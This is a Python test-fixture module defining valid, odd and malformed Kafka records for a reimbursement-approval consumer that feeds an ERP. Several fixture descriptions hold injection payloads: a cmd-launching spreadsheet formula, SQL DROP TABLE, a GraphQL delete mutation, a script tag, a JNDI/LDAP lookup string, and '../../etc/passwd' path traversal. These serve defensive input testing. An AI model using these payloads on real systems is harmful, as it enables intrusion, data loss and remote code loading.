"""Records that senders get wrong, and odd ones that are right: data for one reader and for a real broker.

What is accepted has a reimbursement id of its own, expense types `travel` and `meals` and claimant number
10023, so that it can go all the way into an ERP and must be found there letter by letter.
"""

import json
from dataclasses import dataclass
from typing import Final

from schemas.dead_letter import DeadLetterReason
from schemas.record import Topic

HeaderList = tuple[tuple[str, bytes], ...]

_NOT_A_CLOUDEVENT: Final = DeadLetterReason.NOT_A_CLOUDEVENT
_UNKNOWN_TYPE: Final = DeadLetterReason.UNKNOWN_TYPE
_INVALID_JSON: Final = DeadLetterReason.INVALID_JSON
_INVALID_DATA: Final = DeadLetterReason.INVALID_DATA
_TOO_LARGE: Final = DeadLetterReason.TOO_LARGE
_WRONG_TOPIC: Final = DeadLetterReason.WRONG_TOPIC

APPROVED_TYPE: Final = "reimbursement.approved.v1"
TOGGLED_TYPE: Final = "connector.toggled.v1"
_MEBIBYTE: Final = 1024 * 1024


@dataclass(frozen=True, slots=True)
class CuratedRecord:
    """A Kafka record. `expected` None: accepted, and what it says is stored and posted to the letter."""

    name: str
    key: bytes | None
    value: bytes | None
    headers: HeaderList
    expected: DeadLetterReason | None
    topic: Topic = "approvals"


def binary_headers(event_type: str = APPROVED_TYPE, **changed: bytes | None) -> HeaderList:
    """Headers of binary mode; a keyword replaces one (`ce_id=b"2"`), None leaves it out."""
    headers: dict[str, bytes | None] = {
        "ce_specversion": b"1.0",
        "ce_id": b"0d5c2f0e-6f8c-4f4e-9a57-2f4d1e7f7a11",
        "ce_source": b"/expenses",
        "ce_type": event_type.encode(),
        "content-type": b"application/json",
    }
    headers.update({name.replace("content_type", "content-type"): value for name, value in changed.items()})
    return tuple((name, value) for name, value in headers.items() if value is not None)


STRUCTURED_HEADERS: Final[HeaderList] = (("content-type", b"application/cloudevents+json; charset=UTF-8"),)


def line(line_id: str = "1", **changed: object) -> dict[str, object]:
    """One line over 100.00, with members replaced."""
    usual = {
        "line_id": line_id,
        "expense_type": "travel",
        "expense_date": "2026-11-03",
        "amount": "100.00",
        "description": "Train",
    }
    return {**usual, **changed}


def receipt(**changed: object) -> dict[str, object]:
    """A picture somewhere, with members replaced."""
    usual = {"url": "https://files.example/receipts/1", "sha256": "0a" * 32, "media_type": "image/jpeg"}
    return {**usual, **changed}


def approval(reimbursement_id: str, **changed: object) -> dict[str, object]:
    """One line over 100.00 NOK for the organisation hlf, with members replaced."""
    usual = {
        "organization_id": "hlf",
        "reimbursement_id": reimbursement_id,
        "approved_at": "2026-11-20T09:12:44Z",
        "approved_by": "user-17",
        "claimant": {"id": "peer-4711", "number": "10023"},
        "currency": "NOK",
        "total": "100.00",
        "description": "Peer meeting",
        "lines": [line()],
    }
    return {**usual, **changed}


def toggle(**changed: object) -> dict[str, object]:
    """The organisation hlf's own administrator switches Xledger on, with members replaced."""
    usual = {
        "organization_id": "hlf",
        "connector": "xledger",
        "enabled": True,
        "reason": "Onboarding done",
        "occurred_at": "2026-11-20T10:00:00Z",
        "actor": {"id": "user-9", "role": "organization_admin", "organization_id": "hlf"},
    }
    return {**usual, **changed}


def json_bytes(data: object) -> bytes:
    """As a careful sender writes it: UTF-8, compact."""
    return json.dumps(data, ensure_ascii=False, separators=(",", ":")).encode()


def envelope(data: object, **changed: object) -> dict[str, object]:
    """A structured event, with members replaced or added."""
    usual = {"specversion": "1.0", "id": "e-1", "source": "/expenses", "type": APPROVED_TYPE, "data": data}
    return {**usual, **changed}


def _raw(name: str, value: bytes | None, expected: DeadLetterReason | None) -> CuratedRecord:
    return CuratedRecord(name, b"hlf", value, binary_headers(), expected)


def _bad(name: str, **changed: object) -> CuratedRecord:
    return _raw(name, json_bytes({**approval("R-bad"), **changed}), _INVALID_DATA)


def _bad_line(name: str, **changed: object) -> CuratedRecord:
    return _bad(name, lines=[line(**changed)])  # type: ignore[arg-type]  # line_id may be what it must not


def _bad_amount(name: str, amount: object, currency: str = "NOK") -> CuratedRecord:
    return _bad(name, currency=currency, total=amount, lines=[line(amount=amount)])


def _good(name: str, reimbursement_id: str, **changed: object) -> CuratedRecord:
    return _raw(name, json_bytes(approval(reimbursement_id, **changed)), None)


def _bad_headers(name: str, headers: HeaderList, expected: DeadLetterReason = _NOT_A_CLOUDEVENT) -> CuratedRecord:
    return CuratedRecord(name, b"hlf", json_bytes(approval("R-bad")), headers, expected)


def _structured(name: str, event: object, expected: DeadLetterReason | None) -> CuratedRecord:
    return CuratedRecord(name, b"hlf", json_bytes(event), STRUCTURED_HEADERS, expected)


def _switch(name: str, expected: DeadLetterReason | None, **changed: object) -> CuratedRecord:
    return CuratedRecord(name, b"hlf", json_bytes(toggle(**changed)), binary_headers(TOGGLED_TYPE), expected, "toggles")


def _spliced(
    name: str, old: bytes, new: bytes, expected: DeadLetterReason | None, reimbursement_id: str = "R-bad"
) -> CuratedRecord:
    """A record that no JSON writer would write: part of its text replaced."""
    text = json_bytes(approval(reimbursement_id))
    if text.count(old) != 1:
        raise ValueError(f"{name}: the part to replace is there {text.count(old)} times")
    return _raw(name, text.replace(old, new), expected)


def _padded(reimbursement_id: str, size: int) -> bytes:
    """An approval of exactly this many bytes, blown up by a field nobody knows."""
    empty = json_bytes(approval(reimbursement_id, padding=""))
    return json_bytes(approval(reimbursement_id, padding="x" * (size - len(empty))))


_BROKEN_JSON: Final = (
    _raw("no JSON at all", b"reimbursement approved, please pay", _INVALID_JSON),
    _raw("empty value", b"", _INVALID_JSON),
    _raw("tombstone", None, _INVALID_JSON),
    _raw("cut off", json_bytes(approval("R-bad"))[:-7], _INVALID_JSON),
    _raw("two documents", json_bytes(approval("R-bad")) * 2, _INVALID_JSON),
    _raw("byte order mark", b"\xef\xbb\xbf" + json_bytes(approval("R-bad")), _INVALID_JSON),
    _raw("UTF-16", json.dumps(approval("R-bad")).encode("utf-16"), _INVALID_JSON),
    _raw("nested 100,000 deep", b"[" * 100_000 + b"]" * 100_000, _INVALID_JSON),
    _raw("number of 5,000 digits", b'{"total":' + b"9" * 5_000 + b"}", _INVALID_JSON),
    _raw("zlib instead of JSON", b"x\x9c\xabV*I-.Q\xb2\x02\x00\x0b\xd7\x02\xb0", _INVALID_JSON),
    _spliced("bytes that are no UTF-8", b"Peer meeting", b"M\xf8te", _INVALID_JSON),
    _spliced("overlong UTF-8", b"Peer meeting", b"\xc0\xaf", _INVALID_JSON),
    _spliced("encoded surrogate", b"Peer meeting", b"\xed\xa0\x80", _INVALID_JSON),
    _spliced("lone surrogate escape", b"Peer meeting", b"\\ud800", _INVALID_JSON),
    _spliced("raw line break in a string", b"Peer meeting", b"Peer\nmeeting", _INVALID_JSON),
    _spliced("raw NUL in a string", b"Peer meeting", b"Peer\x00meeting", _INVALID_JSON),
    _spliced("duplicate key", b'"currency":"NOK"', b'"currency":"NOK","currency":"SEK"', _INVALID_JSON),
    _spliced("duplicate key in a line", b'"line_id":"1"', b'"line_id":"1","line_id":"2"', _INVALID_JSON),
    _spliced("NaN", b'"total":"100.00"', b'"total":NaN', _INVALID_JSON),
    _spliced("Infinity", b'"total":"100.00"', b'"total":Infinity', _INVALID_JSON),
    _spliced("single quotes", b'"NOK"', b"'NOK'", _INVALID_JSON),
    _spliced("trailing comma", b'"Train"}', b'"Train",}', _INVALID_JSON),
    _spliced("comment", b'"currency":"NOK"', b'/* kroner */"currency":"NOK"', _INVALID_JSON),
)

_BAD_AMOUNTS: Final = (
    _spliced("amount 1e400", b'"total":"100.00"', b'"total":1e400', _INVALID_DATA),
    _bad_amount("amount as a whole number", 100),
    _bad_amount("amount as a float", 100.5),
    _bad_amount("three decimals in NOK", "100.123"),
    _bad_amount("third decimal of NOK is a zero", "100.500"),
    _bad_amount("one decimal in JPY", "100.5", "JPY"),
    _bad_amount("JPY with its decimals written as zeros", "100.00", "JPY"),
    _bad_amount("four decimals in KWD", "1.2345", "KWD"),
    _bad_amount("negative", "-100.00"),
    _bad_amount("zero", "0.00"),
    _bad_amount("explicit plus", "+1"),
    _bad_amount("decimal comma", "1,5"),
    _bad_amount("leading blank", " 1"),
    _bad_amount("trailing line break", "1.00\n"),
    _bad_amount("thousands separator", "1 000.00"),
    _bad_amount("underscore", "1_000.00"),
    _bad_amount("full-width digits", "１００"),
    _bad_amount("Arabic digits", "١٠٠"),
    _bad_amount("exponent", "1e2"),
    _bad_amount("hexadecimal", "0x64"),
    _bad_amount("NaN as text", "NaN"),
    _bad_amount("no digit before the point", ".50"),
    _bad_amount("no digit after the point", "100."),
    _bad_amount("empty amount", ""),
    _bad_amount("fourteen digits", "10000000000000"),
    _bad("lines do not add up", total="100.01"),
    _bad("sum of floats", total="0.30000000000000004", lines=[line("1", amount="0.1"), line("2", amount="0.2")]),
    _bad("one zero line among good ones", lines=[line("1"), line("2", amount="0")]),
    _bad("a negative line evens out", total="50", lines=[line("1"), line("2", amount="-50.00")]),
    _bad("unknown currency", currency="ABC"),
    _bad("withdrawn currency", currency="DEM"),
    _bad("lower-case currency", currency="nok"),
    _bad("gold", currency="XAU"),
)

_BAD_TIMES: Final = (
    _bad("time without offset", approved_at="2026-11-20T09:12:44"),
    _bad("numeric timestamp", approved_at=1_795_165_964),
    _bad("numeric timestamp as text", approved_at="1795165964"),
    _bad("date instead of time", approved_at="2026-11-20"),
    _bad("time in words", approved_at="Fri, 20 Nov 2026 09:12:44 GMT"),
    _bad("time zone by name", approved_at="2026-11-20T09:12:44[Europe/Oslo]"),
    _bad("second 61", approved_at="2026-11-20T09:12:61Z"),
    _bad("offset of 24 hours", approved_at="2026-11-20T09:12:44+24:00"),
    _bad("before the first year in UTC", approved_at="0001-01-01T00:00:00+10:00"),
    _bad("year 0", approved_at="0000-01-01T00:00:00Z"),
    _bad_line("date with time", expense_date="2026-11-03T00:00:00Z"),
    _bad_line("30 February", expense_date="2026-02-30"),
    _bad_line("29 February of a common year", expense_date="2026-02-29"),
    _bad_line("date of the year 0", expense_date="0000-01-01"),
    _bad_line("Norwegian date", expense_date="03.11.2026"),
    _bad_line("week date", expense_date="2026-W45-2"),
    _bad_line("date without hyphens", expense_date="20261103"),
    _bad_line("date as a number", expense_date=20_395),
)

_BAD_RECEIPTS: Final = (
    _bad("receipt at a plain address", receipts=[receipt(url="http://files.example/1")]),
    _bad("receipt with a password in its address", receipts=[receipt(url="https://u:p4ssw0rd@files.example/1")]),
    _bad("receipt of no address", receipts=[{"sha256": "0a" * 32, "media_type": "image/png"}]),
    _bad("receipt at an endless address", receipts=[receipt(url="https://files.example/" + "x" * 2048)]),
    _bad("receipt with half a hash", receipts=[receipt(sha256="0a" * 16)]),
    _bad("receipt that is a page", receipts=[receipt(media_type="text/html")]),
    _bad("twenty-one receipts", receipts=[receipt()] * 21),
    _bad("receipts that are null", receipts=None),
)

_BAD_TEXT: Final = (
    _bad("NUL in the description", description="Peer\x00meeting"),
    _bad("escape character in the description", description="\x1b[31mPeer meeting"),
    _bad("C1 control character in the description", description="Peer\x85meeting"),
    _bad("description too long", description="x" * 1001),
    _bad_line("NUL in the description of a line", description="\x00"),
    _bad("line break in the claimant's number", claimant={"id": "peer-4711", "number": "10023\n"}),
    _bad("trailing line break in an identifier", reimbursement_id="R-bad\n"),
    _bad("identifier of 65", reimbursement_id="R" * 65),
    _bad("empty identifier", reimbursement_id=""),
    _bad("blank in an identifier", reimbursement_id="R bad"),
    _bad("path in an identifier", reimbursement_id="../../etc/passwd"),
    _bad("Cyrillic look-alike in an identifier", reimbursement_id="R-bаd"),
    _bad("identifier as a number", reimbursement_id=417),
    _bad_line("NUL in an expense type", expense_type="travel\x00"),
    _bad_line("dimension with a bad name", dimensions={"de partment": "10"}),
    _bad_line("dimension with a number", dimensions={"department": 10}),
    _bad_line("seventeen dimensions", dimensions={f"d{number}": "1" for number in range(17)}),
)

_BAD_SHAPE: Final = (
    _raw("array instead of object", json_bytes([approval("R-bad")]), _INVALID_DATA),
    _raw("JSON in a JSON string", json_bytes(json.dumps(approval("R-bad"))), _INVALID_DATA),
    _raw("null", b"null", _INVALID_DATA),
    _raw("empty object", b"{}", _INVALID_DATA),
    _raw("only __proto__", b'{"__proto__":{"organization_id":"hlf"}}', _INVALID_DATA),
    _bad("null total", total=None),
    _bad("null lines", lines=None),
    _bad("null description", description=None),
    _bad("null claimant", claimant=None),
    _bad("claimant as text", claimant="10023"),
    _bad("lines as an object", lines={"1": line()}),
    _bad("no line", lines=[]),
    _bad("501 lines", total="501.00", lines=[line(str(number), amount="1.00") for number in range(501)]),
    _bad("the same line_id twice", total="200.00", lines=[line("1"), line("1")]),
    _bad("a line that is null", lines=[None]),
    _bad_line("line_id as a number", line_id=1),
    _spliced("total is missing", b'"total":"100.00",', b"", _INVALID_DATA),
)

_BAD_KEYS: Final = (
    CuratedRecord("no key", None, json_bytes(approval("R-bad")), binary_headers(), _INVALID_DATA),
    CuratedRecord("empty key", b"", json_bytes(approval("R-bad")), binary_headers(), _INVALID_DATA),
    CuratedRecord("other organisation's key", b"nrk", json_bytes(approval("R-bad")), binary_headers(), _INVALID_DATA),
    CuratedRecord("key with a blank", b"hlf ", json_bytes(approval("R-bad")), binary_headers(), _INVALID_DATA),
    CuratedRecord("key that is no UTF-8", b"\xff", json_bytes(approval("R-bad")), binary_headers(), _INVALID_DATA),
)

_BAD_ENVELOPES: Final = (
    CuratedRecord("tombstone without headers", b"hlf", None, (), _NOT_A_CLOUDEVENT),
    _bad_headers("no headers", ()),
    _bad_headers("no content-type", binary_headers(content_type=None)),
    _bad_headers("content-type of XML", binary_headers(content_type=b"application/xml")),
    _bad_headers("batch", (("content-type", b"application/cloudevents-batch+json"),)),
    _bad_headers("no ce_id", binary_headers(ce_id=None)),
    _bad_headers("empty ce_id", binary_headers(ce_id=b"")),
    _bad_headers("ce_id twice", (*binary_headers(), ("CE_ID", b"other"))),
    _bad_headers("ce_id of 257", binary_headers(ce_id=b"x" * 257)),
    _bad_headers("NUL in ce_source", binary_headers(ce_source=b"/expenses\x00")),
    _bad_headers("no ce_source", binary_headers(ce_source=None)),
    _bad_headers("no ce_type", binary_headers(ce_type=None)),
    _bad_headers("specversion 0.3", binary_headers(ce_specversion=b"0.3")),
    _bad_headers("header that is no UTF-8", binary_headers(ce_source=b"/m\xf8te")),
    _bad_headers("ce_time without offset", binary_headers(ce_time=b"2026-11-20T09:12:44")),
    _bad_headers("unknown type", binary_headers("reimbursement.paid.v1"), _UNKNOWN_TYPE),
    _bad_headers("unknown version", binary_headers("reimbursement.approved.v2"), _UNKNOWN_TYPE),
    _bad_headers("type in upper case", binary_headers("REIMBURSEMENT.APPROVED.V1"), _UNKNOWN_TYPE),
    _bad_headers("plain JSON said to be structured", STRUCTURED_HEADERS),
    _structured("structured array", [envelope(approval("R-bad"))], _NOT_A_CLOUDEVENT),
    _structured("structured without id", envelope(approval("R-bad"), id=None), _NOT_A_CLOUDEVENT),
    _structured("structured with a numeric id", envelope(approval("R-bad"), id=1), _NOT_A_CLOUDEVENT),
    _structured("structured 0.3", envelope(approval("R-bad"), specversion="0.3"), _NOT_A_CLOUDEVENT),
    _structured("structured XML", envelope("<approved/>", datacontenttype="application/xml"), _NOT_A_CLOUDEVENT),
    _structured("structured unknown type", envelope(approval("R-bad"), type="order.placed.v1"), _UNKNOWN_TYPE),
    _structured(
        "structured without data",
        {"specversion": "1.0", "id": "e-1", "source": "/expenses", "type": APPROVED_TYPE},
        _INVALID_DATA,
    ),
    _structured("structured with null data", envelope(None), _INVALID_DATA),
    _structured(
        "structured with data_base64",
        {
            "specversion": "1.0",
            "id": "e-1",
            "source": "/expenses",
            "type": APPROVED_TYPE,
            "data_base64": "eyJ0b3RhbCI6IjEuMDAifQ==",
        },
        _INVALID_DATA,
    ),
    CuratedRecord("structured, cut off", b"hlf", b'{"specversion":"1.0"', STRUCTURED_HEADERS, _INVALID_JSON),
    _raw("one byte above 1 MiB", _padded("R-bad", _MEBIBYTE + 1), _TOO_LARGE),
    _raw("2 MiB of no JSON", b"\x00" * (2 * _MEBIBYTE), _TOO_LARGE),
)

_BAD_TOGGLES: Final = (
    CuratedRecord(
        "toggle on the approvals topic",
        b"hlf",
        json_bytes(toggle()),
        binary_headers(TOGGLED_TYPE),
        _WRONG_TOPIC,
    ),
    CuratedRecord(
        "approval on the toggles topic",
        b"hlf",
        json_bytes(approval("R-bad")),
        binary_headers(),
        _WRONG_TOPIC,
        "toggles",
    ),
    _switch("enabled as text", _INVALID_DATA, enabled="true"),
    _switch("enabled as a number", _INVALID_DATA, enabled=1),
    _switch("null enabled", _INVALID_DATA, enabled=None),
    _switch("null reason", _INVALID_DATA, reason=None),
    _switch("reason too long", _INVALID_DATA, reason="x" * 1001),
    _switch("NUL in the reason", _INVALID_DATA, reason="done\x00"),
    _switch("connector in upper case", _INVALID_DATA, connector="Xledger"),
    _switch("connector with a path", _INVALID_DATA, connector="xledger/../admin"),
    _switch("unknown role", _INVALID_DATA, actor={"id": "user-9", "role": "root", "organization_id": "hlf"}),
    _switch("no actor", _INVALID_DATA, actor=None),
    _switch("negative revision", _INVALID_DATA, revision=-1),
    _switch("revision above 63 bits", _INVALID_DATA, revision=2**63),
    _switch("revision of 4,000 digits", _INVALID_DATA, revision=10**3999),
    _switch("revision as a float", _INVALID_DATA, revision=12.5),
    _switch("revision as text", _INVALID_DATA, revision="12"),
    _switch("toggle at a time without offset", _INVALID_DATA, occurred_at="2026-11-20T10:00:00"),
    _switch("toggle of another organisation than its key", _INVALID_DATA, organization_id="nrk"),
)

_ODD_BUT_GOOD: Final = (
    _good("plain", "R-plain"),
    _good("spreadsheet formula", "R-formula", description="=cmd|' /C calc'!A0"),
    _good("GraphQL injection", "R-graphql", description='"}) { id } } mutation { deleteAll(confirm: true) { ok'),
    _good("OData injection", "R-odata", description="' or 1 eq 1 or number eq '"),
    _good("SQL injection", "R-sql", description="'); DROP TABLE item; --"),
    _good("HTML", "R-html", description="<script>alert(1)</script>&amp;"),
    _good("template", "R-template", description="{{7*7}} ${jndi:ldap://example.org/a} %s %n"),
    _good("__proto__ as an unknown field", "R-proto", __proto__={"total": "1.00"}, constructor={}),
    _good("emoji", "R-emoji", description="Lunsj 🍽️ 👩‍👩‍👧‍👦 ferdig ✅"),
    _good("right to left", "R-rtl", description="اجتماع الأقران \u202eabc\u202c שלום"),
    _good("combining marks and astral letters", "R-zalgo", description="Z\u0351\u0343\u0301algo 𝒜𝒷𝒸"),
    _good("Norwegian letters", "R-norsk", description="Møte på Ålesund lufthavn, æøå ÆØÅ"),
    _good("line breaks and tabs", "R-lines", description="Line one\r\n\tline two\n"),
    _good("empty description", "R-empty", description=""),
    _good("very long but legal text", "R-long", description="𐍈" * 1000),
    _good("backslashes and quotes", "R-quotes", description='\\"\\\\" \\u0000 is text here'),
    _good(
        "500 lines",
        "R-500",
        total="500.00",
        lines=[line(str(number), amount="1.00", expense_type="meals") for number in range(500)],
    ),
    _good("identifier of 64 with every sign", "R._:-" + "9" * 59),
    _good("largest amount", "R-largest", total="9999999999999.99", lines=[line(amount="9999999999999.99")]),
    _good("fewer decimals than the currency has", "R-few", total="100.5", lines=[line(amount="100.50")]),
    _good("other offset", "R-offset", approved_at="2026-11-20T14:57:44.123456789+05:45"),
    _good("lower-case time", "R-lower", approved_at="2026-11-20t09:12:44z"),
    _good("unknown fields of every kind", "R-unknown", extra=[{"a": None}, 1.5], total_minor=1, state="synced"),
    _spliced(
        "unknown field of 1e400",
        b'"currency":"NOK"',
        b'"currency":"NOK","x":1e400',
        None,
        "R-1e400",
    ),
    _spliced(
        "escaped letters in keys and values",
        b'"total":"100.00","description"',
        b'"t\\u006ftal":"10\\u0030.00","x"',
        None,
        "R-escaped",
    ),
    _raw("exactly 1 MiB", _padded("R-mebibyte", _MEBIBYTE), None),
    _raw("pretty-printed", json.dumps(approval("R-pretty"), indent=4).encode(), None),
    CuratedRecord(
        "charset parameter",
        b"hlf",
        json_bytes(approval("R-charset")),
        binary_headers(content_type=b"Application/JSON; charset=utf-8"),
        None,
    ),
    CuratedRecord(
        "headers in upper case",
        b"hlf",
        json_bytes(approval("R-upper")),
        tuple((name.upper(), value) for name, value in binary_headers()),
        None,
    ),
    CuratedRecord(
        "foreign headers that are no UTF-8",
        b"hlf",
        json_bytes(approval("R-foreign")),
        (*binary_headers(), ("traceparent", b"\xff\xfe"), ("ce_extension", b"\xff")),
        None,
    ),
    _structured("structured", envelope(approval("R-structured")), None),
    _structured(
        "structured with every attribute",
        envelope(
            approval("R-attributes"),
            time="2026-11-20T09:12:44Z",
            subject="R-attributes",
            datacontenttype="application/json; charset=utf-8",
            dataschema="https://example.org/s",
            ext=1,
        ),
        None,
    ),
    _switch("toggle", None),
    _switch("toggle without a reason to speak of", None, reason="  "),
    _switch("toggle by a global admin", None, actor={"id": "root-1", "role": "global_admin"}),
    _switch("toggle with the largest revision", None, revision=2**63 - 1),
    _switch("connector nobody has heard of", None, connector="tripletex"),
)

CURATED_RECORDS: Final = (
    *_BROKEN_JSON,
    *_BAD_AMOUNTS,
    *_BAD_TIMES,
    *_BAD_RECEIPTS,
    *_BAD_TEXT,
    *_BAD_SHAPE,
    *_BAD_KEYS,
    *_BAD_ENVELOPES,
    *_BAD_TOGGLES,
    *_ODD_BUT_GOOD,
)
